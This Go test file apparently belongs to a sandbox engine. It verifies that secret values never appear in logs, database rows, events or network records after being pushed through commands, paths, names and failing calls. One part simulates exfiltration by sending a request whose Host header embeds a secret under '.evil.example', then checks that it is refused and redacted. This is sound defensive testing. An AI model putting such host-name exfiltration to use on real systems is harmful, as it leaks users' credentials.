// Copyright 2026 The sandpit authors
// SPDX-License-Identifier: Apache-2.0

package engine_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"sandpit.dev/code"
	"sandpit.dev/engine"
	"sandpit.dev/engine/secrets"
	"sandpit.dev/engine/update"
	"sandpit.dev/engine/volume"
	"sandpit.dev/fault"
	"sandpit.dev/redact"
	"sandpit.dev/redact/redactlog"
	"sandpit.dev/sandbox"
)

// journal is a log that several write to.
type journal struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (j *journal) Write(b []byte) (int, error) {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.buf.Write(b)
}

func (j *journal) String() string {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.buf.String()
}

// TestTheValueOfASecretIsNowhere does everything with the values of secrets: in commands,
// names, paths, and in what fails. Then it looks for them in the whole database and the log.
func TestTheValueOfASecretIsNowhere(t *testing.T) {
	needs(t, "bash")
	const name, odd, bound = "opensesame-1234", `p'a"ss\ w<ö>&$x/y`, "bound-value.of.a.key"
	log, redacted := &journal{}, redactlog.New()
	h, w := wire(t, func(o *engine.Options) {
		o.Logger = slog.New(redacted.Handler(slog.NewJSONHandler(log, &slog.HandlerOptions{Level: slog.LevelDebug})))
		o.Redact = redacted
	})
	ctx := t.Context()
	h.secret("", secrets.Request{Name: "NAME", Value: name})
	h.secret("", secrets.Request{Name: "BOUND", Value: bound, Hosts: []string{"api.example.org"}})
	s := h.create(engine.CreateRequest{Key: "box", Network: restricted("192.0.2.0/24"), Secrets: map[string]secrets.Request{"ODD": {Value: odd}}})

	for _, v := range []string{name, odd, bound} {
		quoted := "'" + strings.ReplaceAll(v, "'", `'\''`) + "'"
		for _, r := range []engine.ExecRequest{
			{Shell: "echo " + quoted + "; exit 3"},
			{Shell: "mkdir -p ./" + quoted + " 2>/dev/null; echo x >./" + quoted + "/" + quoted},
			{Shell: strings.Repeat("x", sandbox.MaxEventCommand-9) + v}, // cut in the middle of it
			{Shell: strings.Repeat("x", sandbox.MaxEventCommand-3-len(v)) + v + "yyyyyyyy"},
			{Argv: []string{"printf", "%s", v}},
			{Argv: []string{v, "no such program"}},
			{Shell: "pwd", Cwd: "/nowhere/" + v},
			{Shell: "cat", Stdin: []byte(v), Env: map[string]string{"A": v}},
			{Shell: "sleep 60 # " + v, Timeout: 50 * time.Millisecond},
		} {
			if res, err := h.engine.Exec(ctx, alice, "box", r, nil); err == nil && bytes.Contains(res.Stdout, []byte(v)) && v != bound {
				t.Errorf("%+v gives the value out: %q", r, res.Stdout)
			}
		}
		for _, cell := range []code.Request{
			{Language: "bash", Code: "false " + quoted}, {Language: "bash", Code: ": (", Stateless: true, Env: map[string]string{"A": v}},
			{Language: "bash", Code: "cd ./" + quoted},
		} {
			_, _ = h.code.RunCode(ctx, alice, "box", cell, nil)
		}
		_, _ = h.code.ShellExec(ctx, alice, "box", "main", engine.ExecRequest{Shell: "cd ./" + quoted + "; echo " + quoted}, nil)
		if term, err := h.engine.Terminal(ctx, alice, "box", engine.TerminalRequest{Argv: []string{"echo", v}}); err == nil {
			for err == nil {
				_, err = term.Next(ctx)
			}
			_ = term.Close()
		}
		rec := h.spawn("box", engine.StartRequest{Shell: "sleep 60; echo " + quoted})
		if err := h.engine.KillProcess(ctx, alice, "box", rec.ID); err != nil {
			t.Error(err)
		}
		h.follow("box", rec.ID, engine.FollowRequest{})

		for _, do := range []func() error{
			func() error {
				_, _, err := h.files.WriteFile(ctx, alice, "box", "files/"+v, strings.NewReader("x"), sandbox.WriteFileOptions{Size: 1, MakeParents: true})
				return err
			},
			func() error {
				_, r, err := h.files.ReadFile(ctx, alice, "box", "files/"+v, sandbox.ReadFileOptions{})
				if err == nil {
					_, _ = io.Copy(io.Discard, r)
					_ = r.Close()
				}
				return err
			},
			func() error {
				return h.files.MakeDir(ctx, alice, "box", "dirs/"+v, sandbox.MakeDirOptions{Parents: true})
			},
			func() error {
				return h.files.MoveFile(ctx, alice, "box", "files/"+v, "dirs/"+v+"/"+v, sandbox.MoveFileOptions{})
			},
			func() error {
				return h.files.MoveFile(ctx, alice, "box", "files/"+v, "/none/"+v, sandbox.MoveFileOptions{})
			},
			func() error {
				return h.files.RemoveFile(ctx, alice, "box", "dirs/"+v, sandbox.RemoveFileOptions{Recursive: true})
			},
			func() error { return h.files.RemoveFile(ctx, alice, "box", "dirs/"+v, sandbox.RemoveFileOptions{}) },
			func() error { _, err := h.engine.Get(ctx, alice, v); return err },
			func() error { _, _, err := h.engine.Create(ctx, alice, engine.CreateRequest{Image: v}); return err },
			func() error { return h.secrets().DeleteSecret(ctx, chief, "", v) },
			func() error {
				_, err := h.secrets().SetSecret(ctx, chief, "", secrets.Request{Name: v, Value: v})
				return err
			},
		} {
			_ = do()
		}

		// What keeps its words refuses them.
		env := map[string]string{"A": "x" + v}
		for what, err := range map[string]error{
			"key":      second(h.engine.Create(ctx, alice, engine.CreateRequest{Key: v})),
			"metadata": second(h.engine.Create(ctx, alice, engine.CreateRequest{Metadata: map[string]string{"note": v}})),
			"env":      second(h.engine.Create(ctx, alice, engine.CreateRequest{Env: env})),
			"its own": second(h.engine.Create(ctx, alice, engine.CreateRequest{
				Env: map[string]string{"A": "another-1234"}, Secrets: map[string]secrets.Request{"OWN": {Value: "another-1234"}},
			})),
			"update":         first(h.engine.Update(ctx, alice, "box", update.Patch{Metadata: &map[string]string{"note": v}})),
			"update of env":  first(h.engine.Update(ctx, alice, "box", update.Patch{Env: &env})),
			"fork":           first(h.engine.Fork(ctx, alice, "box", engine.ForkRequest{Metadata: map[string]string{"note": v}})),
			"snapshot":       first(h.engine.CreateSnapshot(ctx, alice, "box", engine.SnapshotRequest{Name: v})),
			"import":         first(h.engine.ImportSnapshot(ctx, alice, strings.NewReader(""), engine.ImportRequest{Name: v})),
			"volume":         first(h.volumes().CreateVolume(ctx, alice, volume.Request{Name: v})),
			"shell":          first(h.code.CreateShell(ctx, alice, "box", code.ShellRequest{Name: v})),
			"shell in a run": first(h.code.ShellExec(ctx, alice, "box", v, engine.ExecRequest{Shell: "true"}, nil)),
			"run":            h.engine.CheckRecord(ctx, "default", s.ID, map[string][]string{"commands[0]": {"echo " + v}}),
			"context":        first(h.code.CreateContext(ctx, alice, "box", code.ContextRequest{Language: "bash", Env: env})),
			"context's cwd":  first(h.code.CreateContext(ctx, alice, "box", code.ContextRequest{Language: "bash", Cwd: "./" + v})),
		} {
			if v == odd && (what == "key" || what == "metadata" || what == "env") {
				continue // the project does not know the sandbox's own
			}
			if !fault.Is(err, fault.Invalid) {
				t.Errorf("%s with the value %q: %v, want fault.Invalid", what, v, err)
			}
		}
	}
	// A request to a name that has a value in it is refused, and noted.
	tr := w.open()[0]
	c, err := net.Dial("tcp", tr.l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.WriteString(c, "GET /"+name+" HTTP/1.1\r\nHost: "+strings.ToUpper(name)+".evil.example\r\n\r\n")
	_, _ = io.Copy(io.Discard, c)
	_ = c.Close()
	h.await("the refusal", func() bool {
		for _, ev := range h.events(s.ID) {
			if ev.Type == sandbox.EventNetworkRefused && strings.Contains(ev.Detail, "[secret NAME].evil.example") {
				return true
			}
		}
		return false
	})
	net, err := h.engine.NetworkLog(ctx, alice, "box")
	if text := strings.ToLower(fmt.Sprintf("%+v", net)); err != nil || strings.Contains(text, name) {
		t.Errorf("the network's log is %s, %v", text, err)
	}
	if err := h.engine.Delete(ctx, alice, "box"); err != nil {
		t.Fatal(err)
	}
	h.end()

	places := map[string]string{"the log": log.String()}
	maps.Copy(places, h.dump(t))
	for place, text := range places {
		for _, v := range []string{name, odd, bound} {
			for _, spelling := range append(redact.Record.Forms(v), v[:len(v)-3]) {
				if at := strings.Index(strings.ToLower(text), strings.ToLower(spelling)); at >= 0 {
					t.Errorf("%s has %q: …%s…", place, spelling, text[max(at-60, 0):min(at+80, len(text))])
				}
			}
		}
	}
	if !strings.Contains(places["events"], "[secret NAME]") || !strings.Contains(places["events"], "[secret ODD]") {
		t.Error("no event names a secret: the test looks in the wrong place")
	}
}

func first[T any](_ T, err error) error          { return err }
func second[T, U any](_ T, _ U, err error) error { return err }

// dump returns all that is in the database: each table's rows as text, and the files.
func (h *house) dump(t *testing.T) map[string]string {
	t.Helper()
	db := h.database(t)
	ctx := context.Background()
	rows, err := db.QueryContext(ctx, "SELECT name FROM sqlite_master WHERE type = 'table'")
	if err != nil {
		t.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var name string
		if err := rows.Scan(&name); err != nil {
			t.Fatal(err)
		}
		tables = append(tables, name)
	}
	if err := rows.Close(); err != nil || len(tables) < 5 {
		t.Fatalf("the tables are %v, %v", tables, err)
	}
	out := map[string]string{}
	for _, table := range tables {
		rows, err := db.QueryContext(ctx, "SELECT * FROM "+table)
		if err != nil {
			t.Fatal(err)
		}
		columns, err := rows.Columns()
		if err != nil {
			t.Fatal(err)
		}
		var text strings.Builder
		for rows.Next() {
			cells := make([]any, len(columns))
			for i := range cells {
				cells[i] = new([]byte)
			}
			if err := rows.Scan(cells...); err != nil {
				t.Fatal(err)
			}
			for _, c := range cells {
				text.Write(*c.(*[]byte))
				text.WriteByte('\n')
			}
		}
		if err := rows.Close(); err != nil {
			t.Fatal(err)
		}
		out[table] = text.String()
	}
	files, err := filepath.Glob(filepath.Join(h.dir, "records.db*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("the files are %v, %v", files, err)
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		out[filepath.Base(f)] = string(b)
	}
	return out
}
